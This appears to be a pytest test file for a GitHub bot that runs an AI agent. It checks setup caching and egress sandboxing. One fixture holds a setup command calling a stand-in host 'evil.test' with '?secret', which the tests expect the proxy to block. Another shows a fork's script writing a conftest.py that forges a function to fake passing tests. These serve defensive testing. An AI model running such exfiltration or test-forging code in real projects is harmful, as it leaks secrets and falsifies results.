"""Setup: runs once for all checkouts, through a restrictive proxy."""

from __future__ import annotations

import contextlib
import ipaddress
import os

import pytest

from app.egress.addresses import Addresses, system_lookup
from app.egress.package_clients import PackageClients
from tests.support.harness import (
    FINISH,
    FIX,
    OWNER,
    PROJECT,
    Harness,
    Subject,
    open_harness,
    script,
)

pytestmark = pytest.mark.asyncio(loop_scope="session")

POLICY = b"""
setup:
  - python3 -m venv --without-pip .venv
verify: [".venv/bin/python -c 'import calc; assert calc.add(2, 3) == 5'"]
"""
TRIES = b"""
setup:
  - >-
    python3 -c "import urllib.request as u; u.urlopen('https://evil.test/?secret')" || true
network: {allow: [files.example]}
verify: ["python3 -c 'import calc; assert calc.add(2, 3) == 5'"]
"""
INSTALLS = b"""
setup:
  - pip3 install -q six
network: {allow: [python]}
verify: ["python3 -c 'import six, calc; assert calc.add(2, 3) == 5'"]
"""
ENDLESS = b"setup: ['sleep 300']\n"


def kept(harness: Harness) -> int:
    """How many setups Honk has stored."""
    return sum(len(list(each.glob("setups/*/made.tar"))) for each in harness.machines)


def making(harness: Harness) -> int:
    """How many setups are being made."""
    return sum(len(list(each.glob("workspaces/*-setup-*"))) for each in harness.machines)


def files(policy: bytes) -> dict[str, bytes]:
    return {**PROJECT, ".github/honk.yml": policy}


async def test_what_set_up_made_is_made_once(harness: Harness) -> None:
    before = kept(harness)
    subject = await harness.subject(
        files=files(POLICY),
        plays=script(
            {"bash": {"command": ".venv/bin/python -V && touch .venv/mine && ls -a"}},
            [FIX, {"verify": {}}],
            FINISH,
        ),
    )
    await subject.label()
    await subject.settled()
    assert subject.check.conclusion == "success"
    # The agent, the base, the trial and the commit all had it; it was made once.
    assert kept(harness) - before == 1
    assert subject.pull.pull is not None
    assert ".venv" not in await subject.git("ls-tree", "-r", subject.pull.pull.head_sha)


@pytest.mark.slow
async def test_other_dependencies_are_set_up_again(harness: Harness) -> None:
    before = kept(harness)
    add = {"bash": {"command": "echo > requirements.txt; rm -r .venv"}}
    subject = await harness.subject(
        files=files(POLICY),
        plays=script(add, {"setup": {}}, {"bash": {"command": "test -e .venv"}}, FIX, FINISH),
    )
    await subject.label()
    await subject.settled()
    assert subject.check.conclusion == "success"
    assert kept(harness) - before == 2


async def test_blocked_requests_of_setup_are_shown(harness: Harness) -> None:
    subject = await harness.subject(files=files(TRIES), plays=script(FIX, FINISH))
    await subject.label()
    await subject.settled()
    assert "`evil.test`: the host is not on the allow-list" in subject.status


async def test_a_package_is_installed_and_the_tests_have_it() -> None:
    networks = await where_packages_are()
    async with open_harness(HONK_EGRESS_NETWORKS=networks) as harness:
        subject = await harness.subject(files=files(INSTALLS), plays=script(FIX, FINISH))
        await subject.label()
        await subject.settled()
        assert subject.check.conclusion == "success", subject.status
        assert "blocked from reaching" not in subject.status


async def where_packages_are() -> str:
    """The networks that the operator of this machine would allow for its own registry."""
    anywhere = Addresses([ipaddress.ip_network("0.0.0.0/0"), ipaddress.ip_network("::/0")])
    found: list[str] = []
    for rule in (await PackageClients(anywhere).resolve(["python"])).rules:
        with contextlib.suppress(OSError):
            found += await system_lookup(rule.pattern)
    if not found:
        (pytest.fail if os.environ.get("CI") == "true" else pytest.skip)("no index is reachable")
    return ",".join(dict.fromkeys(found))


@pytest.mark.slow
async def test_dependencies_that_cannot_be_had_go_back_to_the_agent(harness: Harness) -> None:
    write = {"bash": {"command": "echo broken > requirements.txt"}}
    repair = {"bash": {"command": "echo good > requirements.txt"}}
    policy = b"setup: ['grep good requirements.txt']\nverify: ['python3 -m pytest -q']\n"
    subject = await harness.subject(
        files={**files(policy), "requirements.txt": b"good\n"},
        plays=script([FIX, write, {"verify": {}}], FINISH, repair, FINISH),
    )
    await subject.label()
    await subject.settled()
    assert subject.check.conclusion == "success", subject.status
    assert await subject.git("show", f"{subject.check.head_sha}:requirements.txt") == "good\n"


async def test_a_run_that_waits_for_the_setup_of_another_can_be_stopped(
    harness: Harness,
) -> None:
    first = await harness.subject(files=files(ENDLESS))
    issue = await harness.github.open_issue(first.repository, OWNER, "another", "")
    second = Subject(harness, first.repository, issue.number)
    await first.label()
    await harness.until(lambda: making(harness) > 0, "nothing is set up")
    await second.label()
    await harness.until(lambda: "honk:running" in second.labels, "the second does not run")
    await second.comment("/honk stop")
    await second.settled()

    assert "**Stopped.**" in second.status
    assert first.labels == ["honk:running"]
    await first.comment("/honk stop")
    await first.settled()


BREAKS = b"""
setup:
  - >-
    for n in $(seq 200); do echo "step $n"; done;
    echo "error: no such package"; seq -f "after %g" 40; exit 3
"""


async def test_a_failed_setup_is_reported_once_with_the_important_lines(harness: Harness) -> None:
    subject = await harness.subject(files=files(BREAKS), plays=script(FIX, FINISH))
    await subject.label()
    await subject.settled()
    shown, _, folded = subject.status.partition("<details><summary>Full output")
    assert "error: no such package" in shown
    assert "after 40" in shown
    assert "step 150" not in shown
    assert "step 150" in folded
    mention = subject.last_words.partition("\n\n")[0]
    assert mention.startswith("@olivia Setup failed: `for n in")
    assert mention.endswith(
        "` exited with 3; fix `setup` in `.github/honk.yml`, then comment `/honk retry`."
    )
    assert "no such package" not in subject.last_words
    assert "step 1" not in subject.last_words


FORGED = b"import calc\n\ncalc.add = lambda a, b: a + b\n"
PREPARES = b"open('conftest.py', 'wb').write(%r)\n" % FORGED


def ready(prepare: bytes) -> dict[str, bytes]:
    """A project whose setup runs code that no list of dependencies names."""
    rules = b"setup: ['make ready']\ncorrections: 0\n"
    return {**files(rules), "Makefile": b"ready:\n\tpython3 prepare.py\n", "prepare.py": prepare}


async def proposed(harness: Harness, main: Subject, change: dict[str, bytes]) -> Subject:
    """A stranger's pull request from a fork, on which the model changes nothing."""
    copy = await harness.github.fork(main.repository, "trudy")
    await harness.github.push_files(copy.full_name, "better", change, "trudy", "Prepare more")
    pull = await harness.github.open_pull_request(
        main.repository, "trudy", "trudy:better", title="Prepare more"
    )
    harness.model.scripts[f"{main.repository}#{pull.number}"] = script([FINISH])
    return Subject(harness, main.repository, pull.number)


async def test_a_forks_setup_never_reaches_checkouts_of_main(harness: Harness) -> None:
    """It would make a failing test pass there: the fork would decide Honk's results for main."""
    main = await harness.subject(files=ready(b"print('ready')\n"), plays=script([FIX], [FINISH]))
    fork = await proposed(harness, main, {"prepare.py": PREPARES})
    before = kept(harness)
    await fork.comment("/honk is this right?")
    await fork.settled()
    assert kept(harness) > before

    await main.label()
    await main.settled()
    assert "Proven: 1 test fails without this change" in main.status
    assert main.labels == ["honk:done"]


@pytest.mark.slow
async def test_the_set_up_of_a_commit_that_was_taken_back_is_made_again(harness: Harness) -> None:
    """A commit that left the branch's history no longer counts for the branch."""
    main = await harness.subject(files=ready(b"print('ready')\n"), plays=script([FINISH]))
    good = (await main.git("rev-parse", "refs/heads/main")).strip()
    await harness.github.push_files(
        main.repository, "main", {"prepare.py": PREPARES}, OWNER, "Oops"
    )
    await main.label()
    await main.settled()
    await main.git("update-ref", "refs/heads/main", good)
    number = (await harness.github.open_issue(main.repository, OWNER, "add() subtracts", "")).number
    harness.model.scripts[f"{main.repository}#{number}"] = script([FIX], [FINISH])
    later = Subject(harness, main.repository, number)
    await later.label()
    await later.settled()
    assert "Proven: 1 test fails without this change" in later.status


@pytest.mark.slow
async def test_what_an_earlier_commit_of_the_branch_made_serves_the_next(harness: Harness) -> None:
    main = await harness.subject(files=ready(b"print('ready')\n"), plays=script([FINISH]))
    await main.label()
    await main.settled()
    before = kept(harness)
    await harness.github.push_files(main.repository, "main", {"more.py": b""}, OWNER, "More")
    number = (await harness.github.open_issue(main.repository, OWNER, "add() subtracts", "")).number
    harness.model.scripts[f"{main.repository}#{number}"] = script([FIX], [FINISH])
    later = Subject(harness, main.repository, number)
    await later.label()
    await later.settled()
    assert "Proven: 1 test fails without this change" in later.status
    assert kept(harness) == before


async def test_a_forks_set_up_may_only_fetch_whatever_the_policy_says(harness: Harness) -> None:
    """`connect` lets code send data; code that is not on the base branch may be anyone's."""
    rules = b"setup: ['python3 prepare.py']\nnetwork: {allow: [files.example], mode: connect}\n"
    tells = (
        b"import os, sys\n"
        b"sys.exit('only fetching: ' + str('trustStore' in os.environ['JAVA_TOOL_OPTIONS']))\n"
    )
    main = await harness.subject(
        files={**files(rules), "prepare.py": tells}, plays=script([FINISH])
    )
    fork = await proposed(harness, main, {"prepare.py": tells + b"# a fork's\n"})
    await fork.comment("/honk is this right?")
    await fork.settled()
    assert "only fetching: True" in fork.status
    await main.label()
    await main.settled()
    assert "only fetching: False" in main.status
